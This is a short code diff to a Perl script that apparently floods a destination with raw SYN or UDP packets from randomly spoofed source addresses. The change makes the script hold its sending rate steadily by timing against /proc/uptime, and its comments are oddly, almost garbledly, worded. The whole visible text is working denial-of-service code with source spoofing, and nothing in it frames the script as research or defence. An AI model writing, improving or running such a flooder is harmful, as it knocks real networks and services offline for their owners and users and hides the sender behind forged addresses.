@@ -12,10 +12,15 @@ my $to = inet_aton($destination);
 socket(my $socket, PF_INET, SOCK_RAW, 255) or die "socket: $!";
 my $address = pack_sockaddr_in(0, $to);
 
-# What is for a hundredth of a second, then a pause of one: the smallest perl has no finer clock.
+# The smallest perl has no finer clock; a busy machine delays packets, and the rate stays.
+open(my $clock, '<', '/proc/uptime') or die "/proc/uptime: $!";
+sub seconds { seek($clock, 0, 0); return (split ' ', readline $clock)[0] }
+
+my $began = seconds();
 my $sent = 0;
 while (1) {
-  for (1 .. $rate / 100) {
+  my $due = $rate * (seconds() - $began);
+  while ($sent < $due) {
     my $from = pack('N', $first + ($span == 1 ? 0 : int rand $span));
     my $payload = $kind eq 'syn' ? syn($from) : udp();
     my $protocol = $kind eq 'syn' ? 6 : 17;
